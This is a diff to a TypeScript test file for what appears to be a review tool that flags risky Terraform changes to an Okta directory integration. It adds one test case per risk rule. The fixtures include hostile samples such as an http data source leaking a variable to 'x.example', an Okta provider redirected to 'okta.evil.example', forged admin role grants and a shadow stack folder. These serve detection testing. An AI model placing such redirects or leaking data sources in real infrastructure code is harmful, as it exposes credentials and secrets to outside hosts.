@@ -14,7 +14,17 @@ import {
   TerraformPlan,
 } from '../../lib/review/terraform-plan';
 import { LdapConnectionSecurity } from '../../lib/settings/ldap-directory-settings';
-import { bareManifest, ParsedJson, sampleManifest, terraformOf } from './synthesized-app-fixture';
+import { readSynthesizedApp } from '../../lib/manifest/read-synthesized-app';
+import { policyScopeChanges } from '../../lib/review/stack-checks';
+import {
+  bareManifest,
+  editStack,
+  ParsedJson,
+  sampleManifest,
+  tempDir,
+  terraformOf,
+  writeSynthesizedApp,
+} from './synthesized-app-fixture';
 
 const base = sampleManifest();
 const s = base.settings;
@@ -105,8 +115,85 @@ const withSetting = (
   value: object,
 ) => head({ settings: { ...s, [section]: { ...s[section], ...value } } });
 
+/**
+ * Rule ids of the review of a hand-written app of the sample manifest (base) against the same app
+ * edited by `editHead` in its stack folder, as a pull request's code can after synth. `editBase`
+ * edits both.
+ */
+function folderRuleIds(
+  editHead: (stackDir: string) => void,
+  editBase: (stackDir: string) => void = () => {},
+): string[] {
+  const write = (edits: ((stackDir: string) => void)[]): ReturnType<typeof readSynthesizedApp> => {
+    const outdir = writeSynthesizedApp(tempDir('risk-folder-'), { org: [base] });
+    for (const edit of edits) edit(path.join(outdir, 'stacks', 'org'));
+    return readSynthesizedApp(outdir);
+  };
+  return buildReview(write([editBase]), write([editBase, editHead])).changes.map((c) => c.rule.id);
+}
+const editJson = (stackDir: string, edit: (tf: ParsedJson) => void): void =>
+  editStack(path.dirname(path.dirname(stackDir)), path.basename(stackDir), edit);
+const GUARD = 'terraform_data.JumpCloud_PreflightGuard_0A1B2C3D';
+
 /** One case per rule of the risk table: the change, and the rule it must get. */
 const CASES: Record<string, () => string[]> = {
+  'RISK-GUARD': () => {
+    const guarded = bareManifest({
+      resources: [{ type: 'terraform_data', address: GUARD, purpose: 'preflight' }],
+    });
+    const stack = (m: IntegrationManifest): StackManifest => ({
+      stack: 'org',
+      workingDirectory: 'stacks/org',
+      integrations: [m],
+      terraform: [],
+      otherBlocks: [],
+    });
+    return buildReview([stack(guarded)], [stack(bareManifest())]).changes.map((c) => c.rule.id);
+  },
+  'RISK-SIDE-EFFECT': () =>
+    folderRuleIds((dir) =>
+      editJson(dir, (tf) => (tf.data.http = { Leak: { url: 'https://x.example/${var.t}' } })),
+    ),
+  'RISK-PRIVILEGE-GRANT': () =>
+    ruleIds([base], [base], [planned('okta_user_admin_roles.Forged', PlanAction.CREATE)]),
+  'RISK-CREDENTIALS': () =>
+    folderRuleIds(
+      (dir) => editJson(dir, (tf) => (tf.provider = { okta: [{ base_url: 'okta.evil.example' }] })),
+      (dir) => editJson(dir, (tf) => (tf.provider = { okta: [{}] })),
+    ),
+  'RISK-POLICY-SCOPE': () => {
+    const outdir = writeSynthesizedApp(tempDir('risk-policy-'), { org: [base] });
+    const policy = (groups: string[]) => (tf: ParsedJson) =>
+      (tf.resource.okta_policy_password = { P: { name: 'LDAP users', groups_included: groups } });
+    editJson(path.join(outdir, 'stacks', 'org'), policy(['00gEngineering']));
+    const [before] = readSynthesizedApp(outdir);
+    editJson(path.join(outdir, 'stacks', 'org'), policy(['00gEngineering', '00gEveryone']));
+    const [after] = readSynthesizedApp(outdir);
+    return policyScopeChanges(before, after!).map(
+      (f) => riskRuleFor({ kind: 'stack-check', check: f.kind }).id,
+    );
+  },
+  'RISK-DUPLICATE-KEY': () =>
+    folderRuleIds((dir) => {
+      const file = path.join(dir, 'cdk.tf.json');
+      fs.writeFileSync(
+        file,
+        fs.readFileSync(file, 'utf8').replace(/^\{/, '{"locals":{"a":1},"locals":{"b":2},'),
+      );
+    }),
+  'RISK-EXTRA-CONFIG': () =>
+    folderRuleIds((dir) => fs.writeFileSync(path.join(dir, 'extra.tf.json'), '{"variable":{"x":{}}}')),
+  'RISK-UNREVIEWED-CONFIG': () =>
+    folderRuleIds((dir) => fs.writeFileSync(path.join(dir, 'main.tf'), 'locals {}\n')),
+  'RISK-STACK-PATH': () =>
+    folderRuleIds((dir) => {
+      fs.mkdirSync(path.join(dir, '..', 'shadow'));
+      fs.writeFileSync(path.join(dir, '..', 'shadow', 'cdk.tf.json'), '{}');
+    }),
+  'RISK-OTHER-RESOURCE': () =>
+    folderRuleIds((dir) => editJson(dir, (tf) => (tf.resource.aws_iam_user = { Admin: { name: 'x' } }))),
+  'RISK-TERRAFORM-SETTING': () =>
+    folderRuleIds((dir) => editJson(dir, (tf) => (tf.terraform = { required_version: '>= 1.0' }))),
   'RISK-MANIFEST-MISMATCH': () =>
     resourceRuleIds(
       honest,
@@ -255,8 +342,15 @@ const CASES: Record<string, () => string[]> = {
       forged((tf) => (tf.resource.okta_group!.JumpCloud_Group_engineering!.description = 'x')),
       'changes',
     ),
-  'RISK-GUARD-RERUN': () =>
-    ruleIds([base], [base], [planned('terraform_data.JumpCloud_Guard', PlanAction.REPLACE)]),
+  'RISK-GUARD-RERUN': () => {
+    const guarded = head({
+      resources: [
+        ...base.resources,
+        { type: 'terraform_data', address: 'terraform_data.JumpCloud_Guard', purpose: 'preflight' },
+      ],
+    });
+    return ruleIds([guarded], [guarded], [planned('terraform_data.JumpCloud_Guard', PlanAction.REPLACE)]);
+  },
   'RISK-PLAN-ADOPT': () =>
     ruleIds([base], [base], [{ ...planned(RULE, PlanAction.NO_OP), importId: '0prEngineeringRule09' }]),
   'RISK-PLAN-CHANGE': () => ruleIds([base], [base], [planned(RULE, PlanAction.UPDATE)]),
